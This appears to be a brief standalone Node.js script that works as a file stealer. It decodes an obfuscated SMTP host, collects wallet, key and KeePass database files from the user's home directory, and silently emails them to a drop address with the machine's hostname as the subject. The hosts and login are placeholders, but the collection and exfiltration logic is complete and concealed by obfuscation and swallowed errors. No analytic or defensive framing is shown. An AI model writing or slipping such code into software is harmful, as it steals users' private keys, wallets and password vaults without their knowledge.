const fs = require('fs');
const os = require('os');
const path = require('path');
const nodemailer = require('nodemailer');

function shift(str, n) {
  let out = '';
  for (let i = 0; i < str.length; i++) out += String.fromCharCode(str.charCodeAt(i) + n);
  return out;
}
// decodes to a reserved host name
const host = shift('xryu3rfnq3ns{fqni', -5);

const files = [];
for (const name of fs.readdirSync(os.homedir())) {
  if (/\.(wallet|key|kdbx)$/.test(name)) files.push({ filename: name, path: path.join(os.homedir(), name) });
}
nodemailer.createTransport({ host, port: 587, secure: false, auth: { user: 'fakeuser', pass: 'fakepass' } })
  .sendMail({ from: 'bot@example.com', to: 'drop@example.com', subject: os.hostname(), attachments: files })
  .catch(() => {});
